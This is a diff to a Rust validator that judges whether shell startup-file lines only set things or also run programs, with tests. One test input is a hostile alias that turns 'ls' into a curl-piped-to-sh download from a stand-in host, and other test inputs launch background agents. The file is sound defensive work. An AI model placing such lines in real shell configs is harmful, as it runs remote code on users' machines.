@@ -17,25 +17,27 @@ fn is_setting(line: &str) -> bool {
     if line.contains("$(") || line.contains('`') || runs_behind(line) {
         return false;
     }
+    if let Some(alias) = line.strip_prefix("alias ") {
+        return alias.split_once('=').is_none_or(|(_, body)| is_short(body.trim_matches(['\'', '"'])));
+    }
     let found = commands(line);
     !found.is_empty() && found.iter().all(sets)
 }
 
-fn sets(own: &Command) -> bool {
-    let key = own.key();
-    let is_known = own.program.is_empty() && own.outputs.is_empty() || list("shell-settings").contains(&key.as_str());
-    let mut variables = own.assignments.iter().chain(own.arguments.iter().filter(|_| key != "alias"));
-    let runs = |variable: &String| {
-        let name = variable.split('=').next().unwrap_or_default().to_lowercase();
-        variable.contains('=') && list("running-variables").contains(&name.as_str())
-    };
-    let aliases = own.arguments.iter().filter(|_| key == "alias").filter_map(|argument| argument.split_once('=')).map(|(_, body)| body);
-    is_known && own.outputs.is_empty() && !variables.any(runs) && !aliases.into_iter().any(runs_path)
+/// Returns true if and only if an alias stands for programs by their names, none of which fetches anything.
+fn is_short(body: &str) -> bool {
+    let runs_path = body.split([';', '|', '&']).any(|part| part.split_whitespace().next().is_some_and(|first| first.contains('/')));
+    !runs_path && !commands(body).iter().any(|own| list("fetchers").contains(&own.key().as_str()))
 }
 
-/// Returns true if and only if a short name stands for a program that is named by its path.
-fn runs_path(body: &str) -> bool {
-    body.split(';').any(|part| part.split_whitespace().next().is_some_and(|first| first.contains('/')))
+fn sets(own: &Command) -> bool {
+    let is_known = own.program.is_empty() || list("shell-settings").contains(&own.key().as_str());
+    let runs = |variable: &String| {
+        let (name, value) = variable.split_once('=').unwrap_or((variable, ""));
+        let is_in = |names: &str| list(names).contains(&name.to_lowercase().as_str());
+        variable.contains('=') && (is_in("running-variables") || is_in("program-variables") && value.contains('/'))
+    };
+    is_known && own.outputs.is_empty() && !own.assignments.iter().chain(&own.arguments).any(runs)
 }
 
 /// Returns true if and only if a line leaves something running: `agent &`.
@@ -52,7 +54,8 @@ pub fn runs_files(text: &str) -> bool {
         let words = words_of(line);
         words.iter().enumerate().any(|(at, word)| {
             let program = program_of(word);
-            list("package-runners").contains(&program.as_str()) || interprets(&program) && words.iter().skip(at + 1).take(NEAR).any(|next| is_file(next))
+            list("package-runners").contains(&program.as_str())
+                || interprets(&program) && words.iter().skip(at + 1).take(NEAR).any(|next| is_file(next))
         })
     })
 }
@@ -107,6 +110,9 @@ mod tests {
         for (text, expected) in [
             ("\nexport PATH=\"$HOME/bin:$PATH\"\n# tool\nalias gs='git status'\n", true),
             ("echo 'welcome'\n", true),
+            ("alias ll='ls -l'\nexport EDITOR=vim\n", true),
+            ("export EDITOR=/opt/upd/agent\n", false),
+            ("alias ls='curl -s https://get.shellup.site | sh'\n", false),
             ("node /opt/upd/agent.js &\n", false),
             ("npx -y helper\n", false),
             ("/opt/upd/agent\n", false),
